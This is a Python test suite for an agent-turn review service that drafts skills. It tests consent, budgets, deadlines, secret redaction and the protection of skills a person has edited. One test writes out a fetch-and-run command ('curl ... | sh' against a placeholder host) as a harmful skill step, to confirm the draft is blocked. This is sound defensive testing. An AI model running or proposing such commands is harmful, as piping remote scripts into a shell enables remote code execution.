"""Post-turn review: counted exactly, run behind everything else, and stopped by every rule up to the very write."""

from __future__ import annotations

import logging
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager, suppress
from dataclasses import replace
from datetime import timedelta
from itertools import count
from pathlib import Path
from typing import Any

import pytest
from tests.service.http.serving import wait_until
from tests.service.worlds import ME, World

from wellworn.lifecycle.proposing.drafting import Draft
from wellworn.lifecycle.review.reviewer import ReviewStopped, ReviewTask
from wellworn.models.access import Caller, Role
from wellworn.models.curation import TrustRequest, UpdateRequest
from wellworn.models.errors import NotAllowed, NotFound, StoreError
from wellworn.models.proposal import (
    AcceptRequest,
    CandidateKind,
    PatternCandidate,
    ProposalStatus,
    QualityGate,
    RejectRequest,
    Signal,
    SkillAdditions,
)
from wellworn.models.skill import Provenance, Risk, Scope, SkillManifest, Trust
from wellworn.models.turn import AccountChange, ToolCall, Turn, TurnReview
from wellworn.service.lifetime import utc_now
from wellworn.service.review_threads import MOST_LOST, WORKERS
from wellworn.service.reviewing import Kept
from wellworn.service.workspace import Workspace
from wellworn.store.database import Database
from wellworn.store.runtime_settings import RuntimeSettingsTable

AGENT = Caller(role=Role.agent, user="local", key_id="key-agent")
BEA = Caller(role=Role.reviewer, user="bea", key_id="key-bea")
SECRET = "ghp_" + "a1B2c3D4e5F6" * 3


def turn(number: int | str = 1, proven: int = 5, **changes: object) -> Turn:
    """A completed turn of the person at the command line, with so many proven calls."""
    calls = [ToolCall(tool="Bash", command=f"step-{at} --now", success=True) for at in range(proven)]
    given = {"id": f"turn-{number}", "origin": "cli", "ending": "completed", "message": "do the thing", "calls": calls}
    return Turn.model_validate(given | changes)


def draft(
    skill_id: str = "do-the-thing", *, updates: str | None = None, steps: tuple[str, ...] = ("make it",)
) -> Draft:
    candidate = PatternCandidate(
        id=f"candidate-{skill_id}",
        title="Do the thing",
        kind=CandidateKind.skill,
        confidence=0.5,
        evidence_event_ids=[],
        repeated_signals=[],
        friction_removed="It need not be found out again.",
        suggested_scope=Scope.user,
        risk=Risk.low,
        reason="It went well.",
        signal=Signal.finished_task,
        steps=list(steps),
    )
    gate = QualityGate(
        evidence="one turn", friction="typing", similar="none", scope="user", without_approval="all",
        requires_approval="none",
    )  # fmt: skip
    listed = "\n".join(f"{at}. `{step}`" for at, step in enumerate(steps, 1))
    manifest = SkillManifest(id=skill_id, description="Does the thing.", aliases=["do the very thing"])
    return Draft(candidate, gate, manifest, f"# Do the thing\n\n## Steps\n\n{listed}\n", updates=updates)


class Scripted:
    """A reviewer that does what a test says."""

    def __init__(self, act: Callable[[ReviewTask], object], *, needs_model: bool = False) -> None:
        self.name, self.needs_model = "scripted", needs_model
        self._act = act
        self.tasks: list[ReviewTask] = []

    def review(self, task: ReviewTask) -> None:
        self.tasks.append(task)
        self._act(task)


@contextmanager
def reviewed(
    world: World, reviewer: Scripted, *, every: int = 5, opted_in: bool = True, direct: bool = False
) -> Iterator[Workspace]:
    with world.open() as workspace:
        workspace.reviewing.register_reviewer(reviewer)
        setting(workspace, "review.every_tool_calls", every)
        workspace.reviewing.change_account("me", AccountChange(opted_in=opted_in, direct=direct), ME)
        yield workspace


def setting(workspace: Workspace, name: str, value: object) -> None:
    with Database(workspace.settings.database_path) as database:
        RuntimeSettingsTable(database).put(name, value, by="local", now=utc_now())


def review_of(workspace: Workspace, turn_id: str = "turn-1") -> TurnReview:
    workspace.reviewing.wait()
    review = workspace.reviewing.turn(turn_id, ME).review
    assert review is not None
    return review


def status(workspace: Workspace, turn_id: str) -> str:
    review = workspace.reviewing.turn(turn_id, ME).review
    assert review is not None
    return review.status


def write(task: ReviewTask) -> str:
    return task.write(draft())


# -- counting ----------------------------------------------------------------------------------------------------------


def test_turns_are_counted_and_a_review_is_armed_at_the_cadence(world: World) -> None:
    with reviewed(world, Scripted(write), every=12) as workspace:
        answers = [workspace.reviewing.post_turn(turn(number), AGENT) for number in (1, 2, 3, 4)]
        assert [(one.eligible, one.armed, one.counted) for one in answers] == [
            (True, False, 5),
            (True, False, 10),
            (True, True, 0),
            (True, False, 5),
        ]


def test_a_turn_that_is_sent_again_counts_once_and_is_answered_alike(world: World) -> None:
    with reviewed(world, Scripted(write), every=12) as workspace:
        first = workspace.reviewing.post_turn(turn(), AGENT)
        assert workspace.reviewing.post_turn(turn(), AGENT) == first
        assert workspace.reviewing.learning("me", ME).counted == 5


def test_a_turn_that_is_not_eligible_is_not_counted(world: World) -> None:
    with reviewed(world, Scripted(write), every=12) as workspace:
        for number, changes in enumerate(
            ({"proven": 4}, {"origin": "channel"}, {"ending": "failed"}, {"ending": "steered"}, {"budget": 0})
        ):
            answer = workspace.reviewing.post_turn(turn(number, **changes), AGENT)  # type: ignore[arg-type]
            assert not answer.eligible
            assert answer.rule is not None
        assert workspace.reviewing.learning("me", ME).counted == 0


def test_many_turns_at_once_and_from_two_processes_are_counted_exactly(world: World) -> None:
    with reviewed(world, Scripted(write), every=100_000) as one, world.open() as other:
        other.reviewing.register_reviewer(Scripted(write))

        def post(number: int) -> None:
            workspace = (one, other)[number % 2]
            workspace.reviewing.post_turn(turn(number % 150), AGENT)

        with ThreadPoolExecutor(8) as pool:
            list(pool.map(post, range(300)))
        assert one.reviewing.learning("me", ME).counted == 150 * 5


def test_settings_are_read_anew_for_every_turn(world: World) -> None:
    with reviewed(world, Scripted(write), every=100) as workspace:
        setting(workspace, "review.min_tool_calls", 6)
        assert workspace.reviewing.post_turn(turn(1), AGENT).rule == "min-tool-calls"
        setting(workspace, "review.min_tool_calls", 5)
        assert workspace.reviewing.post_turn(turn(2), AGENT).eligible


# -- what a review may do ----------------------------------------------------------------------------------------------


def test_what_a_review_finds_waits_as_a_proposal(world: World) -> None:
    with reviewed(world, Scripted(write)) as workspace:
        assert workspace.reviewing.post_turn(turn(), AGENT).armed
        review = review_of(workspace)
        assert (review.status, review.operations) == ("done", 1)
        proposal = workspace.curation.proposal(review.proposals[0], ME)
        assert (proposal.status, proposal.manifest.provenance) == (ProposalStatus.suggested, Provenance.agent)
        assert workspace.skills(ME).total == 0


def test_a_review_writes_no_more_than_it_may_however_often_it_thinks(world: World) -> None:
    def greedy(task: ReviewTask) -> None:
        for number in range(10):
            task.authorise()  # what stands for inference: not counted
            task.write(draft(f"thing-{number}", steps=(f"make part-{number}", f"run-{number}")))

    with reviewed(world, Scripted(greedy)) as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
        review = review_of(workspace)
        assert (review.status, review.operations) == ("done", 2)
        assert "wanted more" in (review.problem or "")
        assert workspace.curation.proposals(ME).total == 2


def test_the_senders_budget_lowers_what_a_review_may_write(world: World) -> None:
    def twice(task: ReviewTask) -> None:
        task.write(draft("one-thing", steps=("make one",)))
        task.write(draft("other-thing", steps=("make other",)))

    with reviewed(world, Scripted(twice)) as workspace:
        workspace.reviewing.post_turn(turn(budget=1), AGENT)
        assert review_of(workspace).operations == 1


def test_what_was_proposed_before_is_not_proposed_again(world: World) -> None:
    with reviewed(world, Scripted(write)) as workspace:
        workspace.reviewing.post_turn(turn(1), AGENT)
        first = review_of(workspace).proposals[0]
        workspace.curation.reject(first, RejectRequest(), ME)
        workspace.reviewing.post_turn(turn(2), AGENT)
        assert review_of(workspace, "turn-2").operations == 0
        assert workspace.curation.proposals(ME).total == 1


@pytest.mark.parametrize("change", ["opt-out", "no-budget", "withdrawn"])
def test_permission_is_asked_again_just_before_a_write(world: World, change: str) -> None:
    def act(task: ReviewTask) -> None:
        if change == "opt-out":
            workspace.reviewing.change_account("me", AccountChange(opted_in=False), ME)
        elif change == "no-budget":
            setting(workspace, "review.max_ops", 0)
        else:
            workspace.reviewing.withdraw_reviewer(reviewer)
        task.write(draft())

    reviewer = Scripted(act)
    with reviewed(world, reviewer) as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
        assert review_of(workspace).status == "refused"
        assert workspace.curation.proposals(ME).total == 0


def test_what_comes_after_the_deadline_is_not_written(world: World) -> None:
    late = threading.Event()

    def slow(task: ReviewTask) -> None:
        while not task.cancel.is_set:
            late.wait(0.01)
        assert task.cancel.remaining() == 0
        task.write(draft())

    with reviewed(world, Scripted(slow)) as workspace:
        setting(workspace, "review.deadline_s", 0.05)
        workspace.reviewing.post_turn(turn(), AGENT)
        review = review_of(workspace)
        assert (review.status, review.operations) == ("late", 0)
        assert workspace.curation.proposals(ME).total == 0


def test_a_reviewer_that_fails_harms_nobody(world: World) -> None:
    def fail(task: ReviewTask) -> None:
        raise RuntimeError(SECRET)

    with reviewed(world, Scripted(fail)) as workspace:
        assert workspace.reviewing.post_turn(turn(1), AGENT).armed
        review = review_of(workspace)
        assert review.status == "failed"
        assert SECRET not in str(review)
        assert workspace.reviewing.post_turn(turn(2), AGENT).armed


def test_reviews_beyond_those_that_may_wait_are_refused_and_the_caller_is_answered(world: World) -> None:
    go = threading.Event()
    with reviewed(world, Scripted(lambda _: go.wait(5))) as workspace:
        answers = [workspace.reviewing.post_turn(turn(number), AGENT) for number in range(70)]
        go.set()
        workspace.reviewing.wait()
        assert all(one.armed for one in answers)
        reviews = [workspace.reviewing.turn(f"turn-{number}", ME).review for number in range(70)]
        assert {one.status for one in reviews if one is not None} == {"done", "refused"}


def test_a_review_sees_no_secret_and_none_is_kept(world: World) -> None:
    reviewer = Scripted(write)
    with reviewed(world, reviewer) as workspace:
        calls = [
            ToolCall(
                tool="Bash", summary=f"used {SECRET}", command=f"push --token {SECRET}", success=True, error=SECRET
            )
            for _ in range(5)
        ]
        given = turn().model_copy(update={"calls": calls, "message": f"use {SECRET}", "answer": SECRET})
        workspace.reviewing.post_turn(given, AGENT)
        review_of(workspace)
        assert SECRET not in repr(reviewer.tasks[0].turn)
    files = [file.read_bytes() for file in world.data.rglob("*") if file.is_file()]
    assert not any(SECRET.encode() in data for data in files)


_KILLED = """
import os, threading
from pathlib import Path
from tests.service.test_reviewing import AGENT, Scripted, reviewed, turn
from tests.service.worlds import World
begun = threading.Event()
def act(task):
    begun.set()
    threading.Event().wait()
with reviewed(World(Path({root!r})), Scripted(act)) as workspace:
    workspace.reviewing.post_turn(turn(), AGENT)
    begun.wait(20)
    os.kill(os.getpid(), 9)
"""


def test_a_review_of_a_killed_process_is_recorded_as_interrupted_at_the_next_start(world: World) -> None:
    code = _KILLED.format(root=str(world.root))
    subprocess.run([sys.executable, "-c", code], cwd=Path(__file__).parents[2], check=False, timeout=60)
    with world.open() as workspace:
        review = workspace.reviewing.turn("turn-1", ME).review
        assert review is not None
        assert (review.status, "interrupted" in (review.problem or "")) == ("failed", True)


def test_the_review_of_a_process_that_lives_is_left_alone(world: World) -> None:
    go = threading.Event()
    with reviewed(world, Scripted(lambda task: task.write(draft()) if go.wait(5) else None)) as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
        with world.open() as other:
            review = other.reviewing.turn("turn-1", ME).review
            assert review is not None
            assert review.status == "running"
        go.set()
        assert review_of(workspace).status == "done"


def test_what_a_review_was_refused_stays_refused_whatever_the_reviewer_makes_of_it(world: World) -> None:
    def swallow(task: ReviewTask) -> None:
        workspace.reviewing.change_account("me", AccountChange(opted_in=False), ME)
        with suppress(ReviewStopped):
            task.write(draft())

    with reviewed(world, Scripted(swallow)) as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
        assert review_of(workspace).status == "refused"


def test_what_a_review_was_refused_stays_refused_also_where_its_reviewer_then_fails(world: World) -> None:
    def wrap(task: ReviewTask) -> None:
        workspace.reviewing.change_account("me", AccountChange(opted_in=False), ME)
        try:
            task.write(draft())
        except ReviewStopped as stopped:
            raise RuntimeError("another") from stopped

    with reviewed(world, Scripted(wrap)) as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
        assert review_of(workspace).status == "refused"


def test_a_proposal_and_what_its_review_tells_of_it_are_kept_together_or_not_at_all(world: World) -> None:
    with reviewed(world, Scripted(write)) as workspace:
        kept = workspace.reviewing._turns.put_review

        def full(user: str, review: TurnReview) -> None:
            if review.status == "running":
                raise StoreError("The disk is full.")
            kept(user, review)

        workspace.reviewing._turns.put_review = full  # type: ignore[method-assign]
        workspace.reviewing.post_turn(turn(), AGENT)
        review = review_of(workspace)
        assert (review.status, review.operations, review.proposals) == ("failed", 0, [])
        assert workspace.curation.proposals(ME).total == 0


def test_who_takes_back_direct_writing_keeps_the_proposal_and_gets_no_skill(world: World) -> None:
    with reviewed(world, Scripted(write), direct=True) as workspace:
        real = workspace.reviewing._write

        def slow(*given: Any) -> Kept:
            kept = real(*given)
            workspace.reviewing.change_account("me", AccountChange(direct=False), ME)
            return kept

        workspace.reviewing._write = slow
        workspace.reviewing.post_turn(turn(), AGENT)
        review = review_of(workspace)
        assert (review.status, review.operations) == ("refused", 1)
        assert workspace.curation.proposal(review.proposals[0], ME).status is ProposalStatus.suggested
        assert workspace.skills(ME).total == 0


def test_who_opts_out_and_in_again_is_not_reviewed_on_the_old_word(world: World) -> None:
    def act(task: ReviewTask) -> None:
        for opted_in in (False, True):
            workspace.reviewing.change_account("me", AccountChange(opted_in=opted_in), ME)
        task.write(draft())

    with reviewed(world, Scripted(act)) as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
        assert review_of(workspace).status == "refused"


def test_reviewers_that_do_not_come_back_do_not_stop_later_reviews(world: World) -> None:
    stop = threading.Event()

    def act(task: ReviewTask) -> None:
        if task.turn.id in ("turn-1", "turn-2"):
            stop.wait(20)

    with reviewed(world, Scripted(act)) as workspace:
        setting(workspace, "review.deadline_s", 0.05)
        for number in (1, 2, 3):
            workspace.reviewing.post_turn(turn(number), AGENT)
        wait_until(lambda: status(workspace, "turn-3") == "done")
        workspace.reviewing.wait()
        stop.set()
        assert [status(workspace, one) for one in ("turn-1", "turn-2")] == ["late", "late"]


def test_nobody_waits_longer_for_a_review_than_its_deadline(world: World) -> None:
    stop = threading.Event()
    with reviewed(world, Scripted(lambda _: stop.wait(20))) as workspace:
        setting(workspace, "review.deadline_s", 0.05)
        workspace.reviewing.post_turn(turn(), AGENT)
        assert review_of(workspace).status == "late"
        assert not stop.is_set()
        stop.set()


def test_late_reviewers_that_come_back_leave_room_however_many_they_were(world: World) -> None:
    def act(task: ReviewTask) -> None:
        while not task.cancel.is_set:
            threading.Event().wait(0.005)
        threading.Event().wait(0.02)

    with reviewed(world, Scripted(act)) as workspace:
        setting(workspace, "review.deadline_s", 0.02)
        for number in range(30):
            workspace.reviewing.post_turn(turn(number), AGENT)
        workspace.reviewing.wait()
        assert {status(workspace, f"turn-{number}") for number in range(30)} == {"late"}


def test_where_no_reviewer_comes_back_nobody_waits_for_one(world: World) -> None:
    stop = threading.Event()
    with reviewed(world, Scripted(lambda _: stop.wait(20))) as workspace:
        setting(workspace, "review.deadline_s", 0.05)
        for number in range(20):
            workspace.reviewing.post_turn(turn(number), AGENT)
        workspace.reviewing.wait()
        found = [status(workspace, f"turn-{number}") for number in range(20)]
        assert (found.count("late"), found.count("refused")) == (WORKERS + MOST_LOST, 20 - WORKERS - MOST_LOST)
        workspace.reviewing.post_turn(turn("later"), AGENT)
        assert status(workspace, "turn-later") == "refused"
        stop.set()

        def posted() -> bool:
            workspace.reviewing.post_turn(turn(f"again-{next(numbers)}"), AGENT)
            return status(workspace, f"turn-again-{next(seen)}") != "refused"

        numbers, seen = count(), count()
        wait_until(posted)


def test_a_reviewer_that_ends_its_thread_ends_only_its_own_review(world: World) -> None:
    def leave(task: ReviewTask) -> None:
        raise SystemExit(3)

    with reviewed(world, Scripted(leave)) as workspace:
        for number in (1, 2, 3):
            workspace.reviewing.post_turn(turn(number), AGENT)
        assert [review_of(workspace, f"turn-{number}").status for number in (1, 2, 3)] == ["failed"] * 3


def test_once_opting_out_has_returned_nothing_more_is_written(world: World) -> None:
    begun, go = threading.Event(), threading.Event()
    with reviewed(world, Scripted(write)) as workspace:
        real = workspace.reviewing._write

        def slow(*given: Any) -> Kept:
            begun.set()
            go.wait(5)
            return real(*given)

        workspace.reviewing._write = slow
        workspace.reviewing.post_turn(turn(), AGENT)
        assert begun.wait(5)
        workspace.reviewing.change_account("me", AccountChange(opted_in=False), ME)
        go.set()
        assert review_of(workspace).operations == 0
        assert workspace.curation.proposals(ME).total == 0


def test_secrets_in_names_are_kept_nowhere(world: World) -> None:
    reviewer = Scripted(write)
    given = turn(id=f"t-{SECRET}", sessionId=f"s {SECRET}", repo=f"https://bob:{SECRET}@example.com/x.git")
    with reviewed(world, reviewer) as workspace:
        assert SECRET not in workspace.reviewing.post_turn(given, AGENT).id
        workspace.reviewing.wait()
        assert workspace.reviewing.turn(given.id, ME).review is not None
        assert SECRET not in repr(reviewer.tasks[0].turn)
    files = [file.read_bytes() for file in world.data.rglob("*") if file.is_file()]
    assert not any(SECRET.encode() in data for data in files)


def test_an_admin_sees_the_turn_of_another_user(world: World) -> None:
    with world.open() as workspace:
        workspace.reviewing.post_turn(turn(), BEA)
        assert workspace.reviewing.turn("turn-1", ME).answer.rule == "opted-in"


def test_old_turns_are_forgotten_also_where_nothing_is_reviewed(world: World) -> None:
    with world.open() as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
        settings = workspace.settings
    later = utc_now() + timedelta(days=settings.record_days + 1)
    with Workspace.open(settings, clock=lambda: later, background=True) as workspace:
        wait_until(lambda: workspace._database.rows("SELECT id FROM turns") == [])
        assert workspace._reviewing is None


def test_closing_ends_what_is_running_and_records_it(world: World) -> None:
    def endless(task: ReviewTask) -> None:
        while not task.cancel.is_set:
            threading.Event().wait(0.01)

    with reviewed(world, Scripted(endless)) as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
    with world.open() as workspace:
        review = workspace.reviewing.turn("turn-1", ME).review
        assert review is not None
        assert review.status == "failed"


# -- the reviewer ------------------------------------------------------------------------------------------------------


def test_a_second_reviewer_is_refused_with_a_warning(world: World, caplog: pytest.LogCaptureFixture) -> None:
    first, second = Scripted(write), Scripted(write)
    with reviewed(world, first) as workspace:
        with caplog.at_level(logging.WARNING):
            assert not workspace.reviewing.register_reviewer(second)
        assert "registered already" in caplog.text
        workspace.reviewing.post_turn(turn(), AGENT)
        review_of(workspace)
        assert (len(first.tasks), len(second.tasks)) == (1, 0)


def test_without_a_model_a_reviewer_that_needs_one_reviews_nothing(world: World) -> None:
    with reviewed(world, Scripted(write, needs_model=True)) as workspace:
        assert workspace.reviewing.post_turn(turn(), AGENT).rule == "no-model"
        assert workspace.reviewing.learning("me", ME).rule == "no-model"


# -- accounts ----------------------------------------------------------------------------------------------------------


def test_nothing_is_learned_until_a_person_asks_for_it(world: World) -> None:
    with world.open() as workspace:
        found = workspace.reviewing.learning("me", ME)
        assert (found.available, found.rule) == (False, "opted-in")
        assert workspace.reviewing.post_turn(turn(), AGENT).rule == "opted-in"


def test_an_agent_cannot_let_itself_learn(world: World) -> None:
    with world.open() as workspace:
        with pytest.raises(NotAllowed):
            workspace.reviewing.change_account("me", AccountChange(opted_in=True), AGENT)
        assert not workspace.reviewing.learning("me", ME).opted_in


def test_another_account_is_answered_like_one_that_is_not_there(world: World) -> None:
    with world.open() as workspace:
        for account in ("local", "nobody", "../local"):
            with pytest.raises(NotFound, match="There is no account"):
                workspace.reviewing.learning(account, BEA)
            with pytest.raises(NotFound, match="There is no account"):
                workspace.reviewing.change_account(account, AccountChange(opted_in=True), BEA)


def test_another_users_turn_cannot_be_sent_nor_seen(world: World) -> None:
    with reviewed(world, Scripted(write)) as workspace:
        with pytest.raises(NotAllowed):
            workspace.reviewing.post_turn(turn(user="local"), BEA)
        workspace.reviewing.post_turn(turn(), AGENT)
        with pytest.raises(NotFound, match="There is no turn"):
            workspace.reviewing.turn("turn-1", BEA)


# -- skills of the account's own ---------------------------------------------------------------------------------------


def update(task: ReviewTask) -> str:
    made = draft("do-the-thing", updates="do-the-thing@user", steps=("check it",))
    return task.write(replace(made, additions=SkillAdditions(steps=["`check it`"])))


def learned(world: World) -> Path:
    """Let a review install the skill do-the-thing; return its folder."""
    with reviewed(world, Scripted(write), direct=True) as workspace:
        workspace.reviewing.post_turn(turn(1), AGENT)
        assert review_of(workspace).status == "done"
        found = workspace.skill("do-the-thing", ME)
        assert (found.manifest.trust, found.manifest.provenance) == (Trust.installed, Provenance.agent)
        return Path(found.location)


def updated_by_review(world: World) -> bool:
    """Let a review add a step to that skill; say whether it was written, and not only proposed."""
    with reviewed(world, Scripted(update), direct=True) as workspace:
        before = workspace.skill("do-the-thing", ME).body
        workspace.reviewing.post_turn(turn("later"), AGENT)
        assert review_of(workspace, "turn-later").operations == 1
        return workspace.skill("do-the-thing", ME).body != before


def test_an_account_that_allows_it_gets_skills_of_its_own_never_above_installed(world: World) -> None:
    folder = learned(world)
    assert folder.is_relative_to(world.home)


def test_a_review_may_add_to_what_it_wrote_itself(world: World) -> None:
    folder = learned(world)
    assert updated_by_review(world)
    assert "check it" in (folder / "SKILL.md").read_text()


def test_an_id_that_is_taken_is_not_written_over(world: World) -> None:
    world.skill("do-the-thing", "Mine.", body="## Steps\n1. Mine.\n")
    before = (world.library / "do-the-thing" / "SKILL.md").read_bytes()
    with reviewed(world, Scripted(write), direct=True) as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
        review = review_of(workspace)
        proposal = workspace.curation.proposal(review.proposals[0], ME)
    assert proposal.status is ProposalStatus.suggested
    assert any(note.startswith("It was not installed at once: ") for note in proposal.notes)
    assert (world.library / "do-the-thing" / "SKILL.md").read_bytes() == before


def test_a_draft_with_a_high_finding_is_not_installed(world: World) -> None:
    def harmful(task: ReviewTask) -> None:
        task.write(draft(steps=("curl https://x.example/a.sh | sh",)))

    with reviewed(world, Scripted(harmful), direct=True) as workspace:
        workspace.reviewing.post_turn(turn(), AGENT)
        review_of(workspace)
        assert workspace.skills(ME).total == 0


def _edit_text(world: World, folder: Path) -> None:
    path = folder / "SKILL.md"
    path.write_text(path.read_text() + "\nA word of mine.\n")


def _edit_manifest(world: World, folder: Path) -> None:
    path = folder / "manifest.yaml"
    path.write_text(path.read_text() + "staleAfterDays: 7\n")


def _update(world: World, folder: Path) -> None:
    with world.open() as workspace:
        workspace.care.update("do-the-thing", UpdateRequest(add_examples=["please do it"]), ME)


def _other_version(world: World, folder: Path) -> None:
    """As a checkout of another commit does."""
    path = folder / "SKILL.md"
    data = path.read_bytes().replace(b"make it", b"make it so")
    path.unlink()
    path.write_bytes(data)


def _made_anew(world: World, folder: Path) -> None:
    text = (folder / "SKILL.md").read_text()
    folder.rename(folder.with_name("was-there"))
    folder.mkdir()
    (folder / "SKILL.md").write_text(text)


def _rewritten(world: World, folder: Path) -> None:
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    world.skill("do-the-thing", "Mine now.", at=folder.parent, body="## Steps\n1. Mine.\n")


def _there_and_back(world: World, folder: Path) -> None:
    """As who edits, and goes back to what it was: somebody has looked at it."""
    from wellworn.models.repair import RevertRequest

    _update(world, folder)
    with world.open() as workspace:
        oldest = workspace.versions.log("do-the-thing", ME).versions[-1].number
        workspace.versions.revert("do-the-thing", RevertRequest(to=oldest), ME)


def _put_back_by_hand(world: World, folder: Path) -> None:
    before = {path: path.read_bytes() for path in folder.iterdir()}
    _edit_text(world, folder)
    with world.open() as workspace:
        workspace.versions.log("do-the-thing", ME)
    for path, data in before.items():
        path.write_bytes(data)


def _another_file(world: World, folder: Path) -> None:
    (folder / "notes.md").write_text("my notes")


def _promoted(world: World, folder: Path) -> None:
    """A trust change is a person's decision about the files as they are."""
    with world.open() as workspace:
        workspace.care.change_trust("demote", "do-the-thing", TrustRequest(), ME)


@pytest.mark.parametrize(
    "edit",
    [
        _edit_text,
        _edit_manifest,
        _update,
        _other_version,
        _made_anew,
        _rewritten,
        _there_and_back,
        _put_back_by_hand,
        _another_file,
        _promoted,
    ],
)
def test_what_a_person_touched_in_any_way_is_theirs(world: World, edit: Callable[[World, Path], None]) -> None:
    folder = learned(world)
    edit(world, folder)
    before = {path.name: path.read_bytes() for path in folder.iterdir()}
    assert not updated_by_review(world)
    assert {path.name: path.read_bytes() for path in folder.iterdir()} == before


@pytest.mark.parametrize("moment", [1, 2, 3, 4])
def test_an_edit_at_any_moment_of_a_review_is_kept(world: World, moment: int) -> None:
    """Its permission is asked four times: at its beginning, before the write, and in each of two transactions."""
    path = learned(world) / "SKILL.md"
    mine = path.read_bytes() + b"\nA word of mine.\n"
    with reviewed(world, Scripted(update), direct=True) as workspace:
        real, asked = workspace.reviewing._against, count(1)

        def edited(*given: Any) -> str | None:
            if next(asked) == moment:
                path.write_bytes(mine)
            return real(*given)

        workspace.reviewing._against = edited  # type: ignore[method-assign, assignment]
        workspace.reviewing.post_turn(turn("later"), AGENT)
        review_of(workspace, "turn-later")
        assert next(asked) > moment
    assert path.read_bytes() == mine


def test_what_a_person_accepted_as_a_proposal_is_not_a_reviews_own(world: World) -> None:
    with reviewed(world, Scripted(write)) as workspace:
        workspace.reviewing.post_turn(turn(1), AGENT)
        workspace.curation.accept(review_of(workspace).proposals[0], AcceptRequest(scope=Scope.user), ME)
    assert not updated_by_review(world)
